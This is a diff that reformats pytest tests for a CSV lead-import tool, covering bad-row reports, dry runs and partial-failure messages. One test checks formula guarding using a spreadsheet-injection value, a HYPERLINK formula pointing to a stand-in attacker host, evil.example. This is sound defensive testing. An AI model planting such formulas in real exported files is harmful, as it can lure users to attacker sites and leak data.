@@ -23,18 +23,13 @@ from tests.journey.intake.lead_files import (
 
 
 def test_bad_rows_go_into_the_report_and_nothing_of_them_comes_in(db: Database, tmp_path: Path) -> None:
-    path = write_file(
-        tmp_path, [row(), row("not an address", Lead_ID="9"), row("bo@example.com", Consent="perhaps")]
-    )
+    path = write_file(tmp_path, [row(), row("not an address", Lead_ID="9"), row("bo@example.com", Consent="perhaps")])
     done = import_file(plain_context(db, tmp_path), path, NOW)
     assert (done.rows, done.new, done.rejected) == (3, 1, 2)
     assert done.report_path == path.with_name(f"{path.stem}.bad-rows.csv")
     with done.report_path.open(encoding="utf-8-sig") as file:
         report = list(csv.DictReader(file))
-    assert [(each["line"], each["Email"]) for each in report] == [
-        ("3", "not an address"),
-        ("4", "bo@example.com"),
-    ]
+    assert [(each["line"], each["Email"]) for each in report] == [("3", "not an address"), ("4", "bo@example.com")]
     assert rows_of(db, "SELECT normalized FROM address") == [("ann@example.com",)]
     assert rows_of(db, "SELECT rows, rejected FROM import_file") == [(3, 2)]
 
@@ -49,9 +44,7 @@ def test_a_mended_report_imports(db: Database, tmp_path: Path) -> None:
     assert rows_of(db, "SELECT count(*) FROM lead") == [(2,)]
 
 
-def test_formulas_in_bad_rows_are_guarded_in_the_report_and_come_in_as_they_were(
-    db: Database, tmp_path: Path
-) -> None:
+def test_formulas_in_bad_rows_are_guarded_in_the_report_and_come_in_as_they_were(db: Database, tmp_path: Path) -> None:
     ctx = plain_context(db, tmp_path)
     phone, name = "+49 40 123456", '=HYPERLINK("http://evil.example/?x=","click")'
     path = write_file(tmp_path, [row("not an address", Company=name, First_Name="'@SUM(1)", Job_Title=phone)])
@@ -82,9 +75,7 @@ def test_a_dry_run_reports_the_same_and_writes_nothing(db: Database, tmp_path: P
         ],
     )
     dry = import_file(ctx, path, NOW, dry_run=True)
-    assert all(
-        rows_of(db, f"SELECT count(*) FROM {table.name}") == [(0,)] for table in core.metadata.sorted_tables
-    )
+    assert all(rows_of(db, f"SELECT count(*) FROM {table.name}") == [(0,)] for table in core.metadata.sorted_tables)
     assert import_file(ctx, path, NOW) == dry
     assert (dry.new, dry.updated, dry.rejected, dry.signals) == (4, 1, 1, 1)
 
@@ -121,9 +112,7 @@ def test_the_report_may_not_overwrite_the_file(db: Database, tmp_path: Path) -> 
 
 
 def test_a_failure_on_the_way_says_how_far_it_came(db: Database, tmp_path: Path) -> None:
-    path = write_file(
-        tmp_path, [row("a@example.com"), row("b@example.com"), row("bad"), row("c@example.com")]
-    )
+    path = write_file(tmp_path, [row("a@example.com"), row("b@example.com"), row("bad"), row("c@example.com")])
     with pytest.raises(FileUnreadable, match=r"2 rows are in\. Import the file again"):
         import_file(plain_context(db, tmp_path, batch=2), path, NOW, report=tmp_path)
     assert rows_of(db, "SELECT count(*) FROM lead") == [(2,)]
